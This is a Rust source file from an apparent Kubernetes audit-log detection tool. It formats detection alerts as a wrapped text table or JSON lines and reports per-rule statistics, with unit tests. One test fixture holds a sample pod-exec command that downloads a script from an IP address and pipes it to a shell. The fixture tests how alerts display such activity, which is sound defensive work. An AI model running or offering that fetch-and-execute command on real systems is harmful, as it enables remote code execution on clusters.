//! Detection alerts (`kubevigil audit detect`), rendered one at a time as they are raised: a
//! table for people, or the JSON contract one alert per line
//! ([`kubevigil_detect::DetectionAlert::to_json`]).

use std::io::{self, Write};

use kubevigil_detect::DetectionAlert;
use kubevigil_detect::alert::{facts_label, object_label};
use kubevigil_detect::stats::Stats;
use kubevigil_model::time::format_rfc3339_ms;
use kubevigil_model::{Escaped, escape_controls};
use serde_json::json;

/// Writes the alert as one line of JSON (the contract), in one `write_all`: a process killed
/// while writing never leaves half a line.
pub fn write_json_line(out: &mut impl Write, alert: &DetectionAlert) -> io::Result<()> {
    // Made in memory, then written at once: the serializer writes many small pieces.
    let mut line = Vec::with_capacity(4096);
    alert.write_contract(&mut line)?;
    line.push(b'\n');
    out.write_all(&line)
}

/// Width of the wrapped columns of the alert table.
const WHO_WIDTH: usize = 28;
const WHAT_WIDTH: usize = 44;
const RULE_WIDTH: usize = 60;

/// The alert table: `TIME SEVERITY COUNT WHO WHAT RULE`, the header before the first alert
/// (no alert, no header). Long cells wrap onto the next lines of the row, never cut. WHAT is
/// the verb, the object and the rule-specific facts (an exec's command, what a binding grants,
/// a pod's privileged settings); RULE the title and the readable name. An update of an earlier
/// alert (stream mode) shows its last time and running count, its RULE cell starting `update:`.
#[derive(Debug, Default)]
pub struct AlertTable {
    header_done: bool,
}

impl AlertTable {
    pub fn write(&mut self, out: &mut impl Write, a: &DetectionAlert) -> io::Result<()> {
        if !self.header_done {
            writeln!(
                out,
                "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  RULE",
                "TIME", "SEVERITY", "COUNT", "WHO", "WHAT"
            )?;
            self.header_done = true;
        }
        let first = a.first_event();
        // A pod log line, a Kubernetes Event, a Falco alert or a flow has no verb: its object is
        // what it is about.
        let f = &first["facts"];
        let mut what = match first["verb"].as_str() {
            Some(verb) => format!("{verb} {}", object_label(first)),
            None if ["log", "event", "falco", "flow", "resources"]
                .iter()
                .any(|k| f[*k].is_object()) =>
            {
                object_label(first)
            }
            None => format!("- {}", object_label(first)),
        };
        let facts = facts_label(first);
        if !facts.is_empty() {
            what.push_str(": ");
            what.push_str(&facts);
        }
        let time = if a.update { a.last_seen } else { a.first_seen };
        let rule = format!(
            "{}{} ({})",
            if a.update { "update: " } else { "" },
            a.title,
            a.name()
        );
        // Escaped before wrapping: the width counts what is shown.
        let who = wrap(&escape_controls(&a.who()), WHO_WIDTH);
        let what = wrap(&escape_controls(&what), WHAT_WIDTH);
        let rule = wrap(&escape_controls(&rule), RULE_WIDTH);
        let rows = who.len().max(what.len()).max(rule.len());
        for i in 0..rows {
            let cell = |c: &[String]| c.get(i).cloned().unwrap_or_default();
            let line = if i == 0 {
                format!(
                    "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  {}",
                    time.map_or("-".into(), format_rfc3339_ms),
                    a.severity.as_str(),
                    a.count,
                    cell(&who),
                    cell(&what),
                    cell(&rule)
                )
            } else {
                format!(
                    "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  {}",
                    "",
                    "",
                    "",
                    cell(&who),
                    cell(&what),
                    cell(&rule)
                )
            };
            writeln!(out, "{}", line.trim_end())?;
        }
        Ok(())
    }
}

/// `s` in lines of at most `width` characters, broken after a space when there is one in the
/// line, else inside a word.
fn wrap(s: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    let mut rest: Vec<char> = s.chars().collect();
    while rest.len() > width {
        let cut = rest[..=width]
            .iter()
            .rposition(|c| *c == ' ')
            .filter(|&i| i > 0)
            .unwrap_or(width);
        lines.push(
            rest[..cut]
                .iter()
                .collect::<String>()
                .trim_end()
                .to_string(),
        );
        let skip = if rest.get(cut) == Some(&' ') {
            cut + 1
        } else {
            cut
        };
        rest.drain(..skip);
    }
    if !rest.is_empty() || lines.is_empty() {
        lines.push(rest.into_iter().collect());
    }
    lines
}

/// `audit detect --stats`: per rule, the busiest first, its alerts, updates, matches (before
/// deduplication), events and exceptions, then its top actors and objects.
pub fn write_stats(out: &mut impl Write, stats: &Stats) -> io::Result<()> {
    let rules = stats.rules();
    if rules.is_empty() {
        return writeln!(out, "no rule matched");
    }
    for r in rules {
        writeln!(
            out,
            "{}  {}  alerts {}  updates {}  matches {}  events {}  excepted {}  {}",
            Escaped(&r.name),
            r.severity.map_or("-", |s| s.as_str()),
            r.alerts,
            r.updates,
            r.matches,
            r.events,
            r.excepted,
            Escaped(&r.title)
        )?;
        for (label, (top, others)) in [("actors", r.top_actors()), ("objects", r.top_objects())] {
            if top.is_empty() {
                continue;
            }
            let mut items: Vec<String> = top
                .iter()
                .map(|(k, n)| format!("{} ({n})", escape_controls(k)))
                .collect();
            if others > 0 {
                items.push(format!("others ({others})"));
            }
            writeln!(out, "  {label:<8} {}", items.join(", "))?;
        }
    }
    Ok(())
}

/// `--stats -o json`: one JSON object per rule and line.
pub fn write_stats_json(out: &mut impl Write, stats: &Stats) -> io::Result<()> {
    for r in stats.rules() {
        let top = |(top, others): (Vec<(&str, u64)>, u64)| {
            json!({
                "top": top.iter().map(|(k, n)| json!({"value": k, "matches": n})).collect::<Vec<_>>(),
                "others": others,
            })
        };
        let v = json!({
            "rule": r.rule,
            "name": r.name,
            "title": r.title,
            "severity": r.severity.map(|s| s.as_str()),
            "alerts": r.alerts,
            "updates": r.updates,
            "matches": r.matches,
            "events": r.events,
            "excepted": r.excepted,
            "actors": top(r.top_actors()),
            "objects": top(r.top_objects()),
        });
        kubevigil_model::text::json::to_writer(&mut *out, &v, false)?;
        writeln!(out)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use kubevigil_model::Severity;
    use serde_json::Value;

    fn alert(group: Option<Vec<(String, String)>>, event: Value) -> DetectionAlert {
        DetectionAlert {
            rule: "r1".into(),
            doc: std::sync::Arc::new(kubevigil_detect::rules::RuleDoc {
                name: "k8s-pod-exec".into(),
                ..Default::default()
            }),
            title: "Exec into a pod\x1b[31m".into(),
            severity: Severity::High,
            time: Some("2024-05-01T10:00:00.000Z".into()),
            first_seen: Some(1_714_557_600_000),
            last_seen: Some(1_714_557_660_000),
            tags: vec!["attack.execution".into()],
            group,
            count: 1,
            events: vec![event.into()],
            ..DetectionAlert::default()
        }
    }

    #[test]
    fn table_header_once_then_rows_escaped_and_wrapped_not_cut() {
        let ev = json!({"user": {"username": "mallory\u{7}"}, "verb": "create",
            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-0"},
            "facts": {"exec": {"command": ["sh", "-c", "curl http://203.0.113.9/x.sh | sh"], "container": "app"}}});
        let mut out = Vec::new();
        let mut table = AlertTable::default();
        table.write(&mut out, &alert(None, ev.clone())).unwrap();
        let long_group = vec![("user.username".into(), "x".repeat(40))];
        table.write(&mut out, &alert(Some(long_group), ev)).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].starts_with("TIME "));
        assert!(
            lines[1].starts_with("2024-05-01T10:00:00.000Z  high          1  mallory\\a "),
            "{}",
            lines[1]
        );
        assert!(
            lines[1].ends_with("Exec into a pod\\e[31m (k8s-pod-exec)"),
            "{}",
            lines[1]
        );
        assert!(
            lines[1].contains("create pods/exec default/web-0: $ sh -c"),
            "{text}"
        );
        // The command goes on, on the next line of the row, under WHAT.
        let what_col = lines[0].find("WHAT").unwrap();
        assert_eq!(lines[2].find(|c| c != ' '), Some(what_col), "{text}");
        let joined: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(joined.contains("x.sh | sh (container app)"), "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\u{7}'));
        assert!(!text.contains('…'));
        // The 40-character group value is wrapped, whole.
        let x = text.matches('x').count();
        assert!(x >= 40, "{text}");
    }

    #[test]
    fn updates_show_their_last_time_and_running_count() {
        let mut a = alert(None, json!({"verb": "get", "user": {"username": "u"}}));
        a.update = true;
        a.count = 12;
        let mut out = Vec::new();
        AlertTable::default().write(&mut out, &a).unwrap();
        let text = String::from_utf8(out).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert!(
            row.starts_with("2024-05-01T10:01:00.000Z  high         12  u "),
            "{row}"
        );
        assert!(row.contains("update: Exec into a pod"), "{row}");
    }

    #[test]
    fn wrapping_breaks_at_spaces_else_inside_words() {
        assert_eq!(wrap("aaa bbb ccc", 7), ["aaa bbb", "ccc"]);
        assert_eq!(wrap("abcdefghij", 4), ["abcd", "efgh", "ij"]);
        assert_eq!(wrap("", 4), [""]);
    }

    #[test]
    fn non_resource_requests_show_their_path() {
        let ev = json!({"verb": "get", "objectRef": null, "requestURI": "/healthz"});
        let mut out = Vec::new();
        AlertTable::default()
            .write(&mut out, &alert(None, ev))
            .unwrap();
        assert!(String::from_utf8(out).unwrap().contains("get /healthz"));
    }

    #[test]
    fn json_line_is_the_contract() {
        let ev = json!({"auditID": "a", "verb": "get", "requestURI": "/x", "requestObject": {"data": "c2VjcmV0"}});
        let mut out = Vec::new();
        write_json_line(&mut out, &alert(Some(vec![]), ev)).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.ends_with('\n') && text.lines().count() == 1);
        let v: Value = serde_json::from_str(&text).unwrap();
        let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            [
                "rule",
                "name",
                "title",
                "severity",
                "description",
                "why",
                "falsePositives",
                "nextSteps",
                "tags",
                "mitre",
                "time",
                "firstSeen",
                "lastSeen",
                "update",
                "count",
                "dedupKey",
                "group",
                "actor",
                "action",
                "facts",
                "auditIDs",
                "events"
            ]
        );
        assert_eq!(v["severity"], "high");
        assert_eq!(v["group"], json!({}));
        let event_keys: Vec<&str> = v["events"][0]
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(
            event_keys,
            [
                "auditID",
                "time",
                "user",
                "sourceIPs",
                "verb",
                "objectRef",
                "responseStatus"
            ]
        );
        assert_eq!(v["action"]["requestURI"], "/x");
        assert!(!text.contains("c2VjcmV0"));
    }

    #[test]
    fn stats_list_rules_busiest_first_with_top_actors() {
        let mut stats = Stats::default();
        let ev = |u: &str| json!({"user": {"username": u}, "objectRef": {"resource": "secrets", "namespace": "ns", "name": "s"}});
        for u in ["a", "a", "b\u{1b}"] {
            let a = alert(None, ev(u));
            stats.matched(&a, &a.labels());
        }
        let mut out = Vec::new();
        write_stats(&mut out, &stats).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "k8s-pod-exec  high  alerts 0  updates 0  matches 3  events 3  excepted 0  Exec into a pod\\e[31m\n  actors   a (2), b\\e (1)\n  objects  secrets ns/s (3)\n"
        );
        let mut out = Vec::new();
        write_stats_json(&mut out, &stats).unwrap();
        let v: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["actors"]["top"][0], json!({"value": "a", "matches": 2}));
    }
}
